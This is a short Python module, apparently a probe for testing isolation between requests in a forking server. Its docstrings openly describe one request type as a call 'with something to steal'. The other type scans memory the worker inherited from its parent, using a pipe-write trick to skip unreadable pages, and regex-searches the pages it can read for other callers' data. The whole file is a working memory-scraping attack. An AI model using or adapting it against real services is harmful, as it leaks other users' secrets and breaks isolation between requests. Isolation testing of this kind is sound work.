"""Looks through the memory it was forked with for bytes that belong to other calls."""

import ctypes
import os
import re


_libc = ctypes.CDLL(None, use_errno=True)
_libc.sbrk.restype = ctypes.c_void_p
_libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
PAGE = 4096


def run(request):
    """`request`: {"keep": text} is a call with something to steal; {"pattern": regex} looks for it."""
    if "keep" in request:
        return {"kept": request["keep"]}
    pattern = re.compile(request["pattern"].encode())
    found = set()
    for start, end in _regions():
        for data in _readable(start, end):
            found.update(match.decode() for match in pattern.findall(data))
    return sorted(found)


def _regions():
    """The break area, and the surroundings of everything whose address is known."""
    top = _libc.sbrk(0)
    yield top - (64 << 20), top
    anchors = {address >> 20 for address in (id(object()), id([]), id({}), _address(b"x" * 100_000), _address(b"x" * 9_000_000))}
    for anchor in anchors:
        yield (anchor << 20) - (24 << 20), (anchor << 20) + (24 << 20)


def _address(data):
    return ctypes.cast(ctypes.c_char_p(data), ctypes.c_void_p).value


def _readable(start, end):
    """The pages of a region that can be read: writing from an address that cannot be fails with EFAULT."""
    reading, writing = os.pipe()
    held = b""
    for page in range(start & ~(PAGE - 1), end, PAGE):
        if _libc.write(writing, page, PAGE) == PAGE:
            held += os.read(reading, PAGE)
            if len(held) >= 1 << 20:
                yield held
                held = held[-512:]
        elif held:
            yield held
            held = b""
    yield held
